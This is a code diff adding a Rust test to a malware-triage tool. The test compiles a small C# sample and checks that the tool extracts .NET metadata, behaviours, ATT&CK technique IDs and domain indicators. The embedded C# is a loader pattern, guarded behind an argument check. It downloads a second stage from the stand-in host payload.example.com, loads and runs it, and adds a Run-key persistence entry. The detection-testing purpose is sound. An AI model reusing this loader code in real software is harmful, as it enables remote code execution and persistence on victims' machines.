@@ -735,3 +735,133 @@ fn extract_on_a_binary_uses_triage_strings() {
     }
     assert!(utf16 >= 5, "{utf16} UTF-16LE sightings");
 }
+
+/// A C# program (inert: it returns at once unless given six arguments), compiled with mono's
+/// `mcs` when installed: triage reads its .NET facts, maps its .NET API references to
+/// behaviours and techniques, names the toolchain, and keeps .NET names out of the domains.
+#[test]
+fn dotnet_assembly_facts_and_behaviours() {
+    const SOURCE: &str = r#"
+using System;
+using System.Diagnostics;
+using System.IO;
+using System.Net;
+using System.Reflection;
+using System.Runtime.InteropServices;
+using System.Security.Cryptography;
+using Microsoft.Win32;
+
+[assembly: AssemblyVersion("2.3.4.5")]
+[assembly: Guid("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0")]
+
+namespace Inert.Loader {
+  public static class Stage {
+    [DllImport("kernel32.dll")]
+    static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);
+
+    public static int Main(string[] args) {
+      if (args.Length != 6) return 0;
+      byte[] blob = new WebClient().DownloadData("http://payload.example.com/stage2.bin");
+      var aes = Aes.Create();
+      var cs = new CryptoStream(new MemoryStream(blob), aes.CreateDecryptor(), CryptoStreamMode.Read);
+      var asm = Assembly.Load(blob);
+      asm.EntryPoint.Invoke(null, null);
+      Registry.SetValue(@"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", "Updater", "x");
+      Process.Start("cmd.exe", "/c whoami");
+      VirtualAlloc(IntPtr.Zero, UIntPtr.Zero, 0x3000, 0x40);
+      Console.WriteLine("Version 1.2.3.4 of System.Net.Http");
+      return cs.GetHashCode();
+    }
+  }
+}
+"#;
+    let on_path = |tool: &str| {
+        std::env::var_os("PATH")
+            .map(|p| std::env::split_paths(&p).any(|d| d.join(tool).is_file()))
+            .unwrap_or(false)
+    };
+    if !on_path("mcs") {
+        assert!(
+            std::env::var_os("SPOOR_REQUIRE_MCS").is_none(),
+            "SPOOR_REQUIRE_MCS is set but mcs is not on PATH"
+        );
+        eprintln!("note: mcs (Debian mono-mcs) is not on PATH; skipping the .NET sample");
+        return;
+    }
+    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("dotnet-sample");
+    std::fs::create_dir_all(&dir).expect("dir");
+    let src = dir.join("Stage.cs");
+    let exe = dir.join("stage.exe");
+    std::fs::write(&src, SOURCE).expect("write source");
+    let out = std::process::Command::new("mcs")
+        .arg(format!("-out:{}", exe.display()))
+        .arg(&src)
+        .output()
+        .expect("mcs runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let data = std::fs::read(&exe).expect("assembly");
+    let t = sample::triage("stage.exe", &data);
+    let pe = t.pe.as_ref().expect("pe");
+    let net = pe.dotnet.as_ref().expect(".NET facts");
+    assert!(net.runtime.starts_with('v'), "{}", net.runtime);
+    assert_eq!(net.assembly.as_deref(), Some("stage"));
+    assert_eq!(net.version.as_deref(), Some("2.3.4.5"));
+    assert_eq!(
+        net.typelib.as_deref(),
+        Some("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0")
+    );
+    assert!(
+        net.mvid.as_ref().is_some_and(|m| m.len() == 36),
+        "{:?}",
+        net.mvid
+    );
+    assert!(net.references.iter().any(|r| r.starts_with("mscorlib ")));
+    assert!(net.types.iter().any(|x| x == "Inert.Loader.Stage"));
+    assert!(net.methods.iter().any(|x| x == "Inert.Loader.Stage::Main"));
+    assert!(net
+        .member_refs
+        .iter()
+        .any(|m| m == "System.Net.WebClient::DownloadData"));
+    assert_eq!(net.pinvoke, ["kernel32.dll!VirtualAlloc"]);
+    assert!(net
+        .user_strings
+        .iter()
+        .any(|s| s == "http://payload.example.com/stage2.bin"));
+    // Behaviours through the same table as native imports.
+    let cat = |name: &str| {
+        t.behavior
+            .categories
+            .iter()
+            .find(|c| c.name == name)
+            .map(|c| c.imports.clone())
+            .unwrap_or_default()
+    };
+    assert!(cat("network").iter().any(|i| i.ends_with("!DownloadData")));
+    assert!(cat("memory").iter().any(|i| i.ends_with("!Load")));
+    assert!(cat("memory")
+        .iter()
+        .any(|i| i == "kernel32.dll!VirtualAlloc"));
+    assert!(cat("process").iter().any(|i| i.ends_with("!Start")));
+    assert!(cat("registry").iter().any(|i| i.ends_with("!SetValue")));
+    assert!(cat("crypto").iter().any(|i| i.ends_with("!.ctor")));
+    let ids: Vec<&str> = t.techniques.iter().map(|x| x.id.as_str()).collect();
+    for id in ["T1105", "T1547.001", "T1620"] {
+        assert!(ids.contains(&id), "{id} missing from {ids:?}");
+    }
+    assert!(t.toolchains.iter().any(|x| x.name == "dotnet"));
+    // .NET names are not domains; the real one stays.
+    let domains: Vec<&str> = t
+        .iocs
+        .iter()
+        .filter(|i| i.kind == spoor::ioc::IocKind::Domain)
+        .map(|i| i.value.as_str())
+        .collect();
+    assert!(domains.contains(&"payload.example.com"), "{domains:?}");
+    for name in ["system.net", "system.net.http", "inert.loader"] {
+        assert!(!domains.contains(&name), "{name} in {domains:?}");
+    }
+}
